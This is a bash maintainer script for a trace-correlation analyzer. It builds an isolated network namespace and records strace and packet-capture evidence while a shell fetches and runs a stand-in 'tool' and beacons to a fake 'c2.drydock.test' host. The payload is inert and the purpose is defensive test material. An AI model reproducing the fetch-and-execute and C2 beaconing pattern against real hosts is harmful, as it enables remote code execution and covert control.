#!/usr/bin/env bash
# datasets/correlate/record.sh: (re-)record the correlation test material.
#
# A network namespace joined to this machine by a veth pair made by hand:
# dnsmasq (DNS for *.drydock.test) and a Python HTTP server on the host
# end, 10.77.0.1; inside, 10.77.0.2, a shell fetches a "tool" by name with
# wget, runs it, and beacons three times with wget, all under strace -f
# -tt -yy, while tcpdump records the veth. The two recordings share no
# clock but the machine's, so the correlate analyzer's links are checked
# on real evidence: connect <-> flow (5-tuple), DNS answer <-> connect,
# exec <-> the writer of the file.
#
# Needs root, iproute2, dnsmasq, tcpdump, strace, wget, python3. A
# maintainer tool: tests never call it; rec/ is data. SHA256SUMS is
# rewritten.
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
REC=$HERE/rec
NS=ddcorr
for t in ip dnsmasq tcpdump strace wget /usr/bin/python3; do
	command -v $t >/dev/null || { echo "record.sh: $t not found" >&2; exit 1; }
done
[ "$(id -u)" = 0 ] || { echo "record.sh: run as root" >&2; exit 1; }
tmp=$(mktemp -d)
cleanup() {
	[ -n "${TD:-}" ] && kill "$TD" 2>/dev/null
	[ -n "${HS:-}" ] && kill "$HS" 2>/dev/null
	[ -n "${DM:-}" ] && kill "$DM" 2>/dev/null
	ip netns del $NS 2>/dev/null || true
	ip link del ddh0 2>/dev/null || true
	rm -rf /etc/netns/$NS "$tmp"
}
trap cleanup EXIT
cleanup_done=0
ip netns add $NS
ip link add ddh0 type veth peer name ddc0
ip link set ddc0 netns $NS
ip addr add 10.77.0.1/24 dev ddh0
ip link set ddh0 up
ip netns exec $NS ip addr add 10.77.0.2/24 dev ddc0
ip netns exec $NS ip link set ddc0 up
ip netns exec $NS ip link set lo up
mkdir -p /etc/netns/$NS "$tmp/www"
echo "nameserver 10.77.0.1" > /etc/netns/$NS/resolv.conf
printf '#!/bin/sh\necho "tool ran"\n' > "$tmp/www/tool"
echo ok > "$tmp/www/beacon"
dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=10.77.0.1 \
	--bind-interfaces --address=/drydock.test/10.77.0.1 \
	--pid-file="$tmp/dnsmasq.pid" 2>"$tmp/dnsmasq.log" &
DM=$!
(cd "$tmp/www" && exec /usr/bin/python3 -m http.server 8080 --bind 10.77.0.1 \
	>"$tmp/http.log" 2>&1) &
HS=$!
mkdir -p "$REC"
tcpdump -i ddh0 -U -w "$REC/capture.pcap" 2>"$tmp/tcpdump.log" &
TD=$!
sleep 2
ip netns exec $NS strace -f -tt -yy -s 128 -o "$REC/trace.txt" sh -c '
	mkdir -p /tmp/ddcorr && cd /tmp/ddcorr &&
	wget -q -O tool http://tool.drydock.test:8080/tool && chmod +x tool &&
	./tool && for i in 1 2 3; do
		wget -q -O /dev/null http://c2.drydock.test:8080/beacon; sleep 0.5
	done; rm -rf /tmp/ddcorr'
sleep 1
kill "$TD"; wait "$TD" 2>/dev/null || true
TD=
echo "recorded rec/trace.txt ($(wc -l < "$REC/trace.txt") lines), rec/capture.pcap ($(stat -c %s "$REC/capture.pcap") bytes)"
(cd "$HERE" && sha256sum rec/* > SHA256SUMS)
